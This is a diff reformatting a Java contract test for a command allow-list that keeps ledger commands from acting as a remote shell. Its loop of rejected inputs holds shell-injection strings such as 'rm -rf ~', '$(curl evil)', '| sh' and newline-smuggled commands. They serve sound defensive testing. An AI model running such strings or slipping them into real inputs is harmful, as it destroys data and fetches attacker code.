@@ -4,11 +4,13 @@ import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import dev.sovereign.engine.Engine;
+import dev.sovereign.engine.base.CommandAllowList;
 import dev.sovereign.engine.base.Refusal;
 import dev.sovereign.engine.base.RefusalCategory;
 import dev.sovereign.engine.journal.FenceEvent;
 import dev.sovereign.engine.run.Assignment;
 import dev.sovereign.engine.run.AssignmentState;
+import dev.sovereign.engine.testing.Contract;
 import dev.sovereign.engine.testing.SettableClock;
 import dev.sovereign.engine.testing.TempDatabase;
 import dev.sovereign.engine.testing.TestBackend;
@@ -16,8 +18,6 @@ import java.nio.file.Path;
 import java.util.List;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.RegisterExtension;
-import dev.sovereign.engine.testing.Contract;
-import dev.sovereign.engine.base.CommandAllowList;
 
 /**
  * Commands from the ledger are not a remote shell (issue 19, decision 0800): an engine runs a
@@ -39,13 +39,25 @@ abstract class CommandAllowListContract {
 
         assertThat(allow.allows("./nightly.sh")).isFalse(); // the space is literal
         assertThat(allow.allows("./nightly.sh ")).isTrue();
-        assertThat(allow.allows("./nightly.sh --full --date 2026-12-01 'quoted words'")).isTrue();
+        assertThat(allow.allows("./nightly.sh --full --date 2026-12-01 'quoted words'"))
+                .isTrue();
         assertThat(allow.allows("echo a")).isTrue();
         assertThat(allow.allows("echo ab")).isFalse();
-        for (String attack : List.of("./nightly.sh; rm -rf ~", "./nightly.sh && curl evil", "./nightly.sh | sh",
-                "./nightly.sh $(curl evil)", "./nightly.sh `id`", "./nightly.sh > /etc/passwd", "./nightly.sh < x",
-                "./nightly.sh\nrm -rf ~", "./nightly.sh \\\nrm", "./nightly.sh & sleep 1", "echo ;", "echo $",
-                "./nightly.sh (x)", "rm -rf ~")) {
+        for (String attack : List.of(
+                "./nightly.sh; rm -rf ~",
+                "./nightly.sh && curl evil",
+                "./nightly.sh | sh",
+                "./nightly.sh $(curl evil)",
+                "./nightly.sh `id`",
+                "./nightly.sh > /etc/passwd",
+                "./nightly.sh < x",
+                "./nightly.sh\nrm -rf ~",
+                "./nightly.sh \\\nrm",
+                "./nightly.sh & sleep 1",
+                "echo ;",
+                "echo $",
+                "./nightly.sh (x)",
+                "rm -rf ~")) {
             assertThat(allow.allows(attack)).as(attack).isFalse();
         }
     }
@@ -65,9 +77,11 @@ abstract class CommandAllowListContract {
 
     @Test
     void aBlankOrDanglingPatternIsRejectedByName() {
-        assertThatThrownBy(() -> CommandAllowList.of(" ")).isInstanceOf(IllegalArgumentException.class)
+        assertThatThrownBy(() -> CommandAllowList.of(" "))
+                .isInstanceOf(IllegalArgumentException.class)
                 .hasMessageContaining("must not be empty");
-        assertThatThrownBy(() -> CommandAllowList.of("echo \\")).isInstanceOf(IllegalArgumentException.class)
+        assertThatThrownBy(() -> CommandAllowList.of("echo \\"))
+                .isInstanceOf(IllegalArgumentException.class)
                 .hasMessageContaining("lone \\");
     }
 
@@ -81,8 +95,11 @@ abstract class CommandAllowListContract {
 
             assertThatThrownBy(() -> e.runs().runAssignment(x.id())).isInstanceOfSatisfying(Refusal.class, r -> {
                 assertThat(r.category()).isEqualTo(RefusalCategory.COMMAND_NOT_ALLOWED);
-                assertThat(r.getMessage()).contains(x.id()).contains("touch " + marker)
-                        .contains("without any --allow-command pattern").contains("stays CREATED");
+                assertThat(r.getMessage())
+                        .contains(x.id())
+                        .contains("touch " + marker)
+                        .contains("without any --allow-command pattern")
+                        .contains("stays CREATED");
             });
 
             assertThat(marker).doesNotExist(); // the shell never ran
@@ -107,18 +124,25 @@ abstract class CommandAllowListContract {
         try (Engine setup = temp.open(clock)) {
             setup.actors().add("operator");
         }
-        try (Engine allowed = temp.open(temp.config(clock).allowCommands(CommandAllowList.of("touch *")).build());
-             Engine other = temp.open(temp.config(clock).allowCommands(CommandAllowList.of("echo *")).build())) {
+        try (Engine allowed = temp.open(temp.config(clock)
+                        .allowCommands(CommandAllowList.of("touch *"))
+                        .build());
+                Engine other = temp.open(temp.config(clock)
+                        .allowCommands(CommandAllowList.of("echo *"))
+                        .build())) {
             Assignment x = allowed.runs().assign("operator", "command:touch " + marker);
             Assignment scripted = other.runs().assign("operator", "scripted:ms=0,outcome=completed");
 
-            assertThatThrownBy(() -> other.runs().runAssignment(x.id())).isInstanceOfSatisfying(Refusal.class,
-                    r -> assertThat(r.getMessage()).contains("none of its --allow-command patterns [echo *]"));
+            assertThatThrownBy(() -> other.runs().runAssignment(x.id()))
+                    .isInstanceOfSatisfying(
+                            Refusal.class,
+                            r -> assertThat(r.getMessage()).contains("none of its --allow-command patterns [echo *]"));
             assertThat(marker).doesNotExist();
             assertThat(other.runs().runAssignment(scripted.id()).assignment().state())
                     .isEqualTo(AssignmentState.COMPLETED);
 
-            assertThat(allowed.runs().runAssignment(x.id()).assignment().state()).isEqualTo(AssignmentState.COMPLETED);
+            assertThat(allowed.runs().runAssignment(x.id()).assignment().state())
+                    .isEqualTo(AssignmentState.COMPLETED);
             assertThat(marker).exists();
         }
     }
